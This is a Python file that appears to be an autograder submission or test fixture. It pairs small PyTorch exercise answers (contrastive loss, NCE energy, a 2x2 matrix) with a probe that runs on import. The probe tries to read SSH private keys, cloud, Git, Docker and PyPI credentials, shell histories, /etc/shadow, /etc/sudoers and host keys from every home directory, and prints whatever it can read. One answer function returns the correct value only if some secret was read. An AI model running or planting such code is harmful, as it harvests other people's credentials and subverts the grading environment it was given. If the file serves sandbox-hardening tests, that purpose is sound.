import os
import pwd

import torch

through = []


def attempt(name, deed, *arguments):
    """Note what gets through; go on whatever happens."""
    try:
        print(name, deed(*arguments))
    except BaseException as error:
        print(name, "refused:", repr(error))
    else:
        through.append(name)


HERE = "/tmp/autograder-attack"  # where test_attacks.py lays out what there is to attack


def homes():
    yield from (f"{HERE}/home", "/root", os.path.expanduser("~root"), "/home")
    try:
        yield from (user.pw_dir for user in pwd.getpwall())
    except OSError as error:
        print(error)


NAMES = """.ssh/id_rsa .ssh/id_ed25519 .ssh/authorized_keys .ssh/known_hosts .bash_history .netrc .gitconfig
.git-credentials .config/gh/hosts.yml .aws/credentials .docker/config.json .pypirc .python_history .bashrc""".split()
for home in dict.fromkeys(homes()):
    attempt(f"list {home}", os.listdir, home)
    for name in NAMES:
        attempt(f"{home}/{name}", lambda path: open(path).read(), f"{home}/{name}")
for path in ("/etc/passwd", "/etc/shadow", "/etc/sudoers", "/etc/ssh/ssh_host_ed25519_key", "/etc/hostname", "/etc/machine-id"):
    attempt(path, lambda path: open(path).read(), path)


def A_matrix(alpha):
    return [[1, alpha], [-alpha, 1]] if through else "refused"


def linear_reparameterization():
    x = torch.tensor([1.0, -2.0, 0.5])
    F_a = torch.tensor([[1.0, 0.0, 0.0], [0.0, 1.0, 0.0]])
    F_b = torch.tensor([[2.0, 0.0, 1.0], [0.0, 3.0, 0.0]])
    return x, F_a, F_b, F_a @ x, F_b @ x


def stationary_point():
    return torch.zeros(2)


def nce_optimal_energy(p_d, p_n):
    return torch.log(p_d) - torch.log(p_n)


def contrastive_loss(z, y, y_neg):
    pos = (z * y).sum(dim=1)
    neg = z @ y_neg.T
    return (torch.logsumexp(neg, dim=1) - pos).mean()
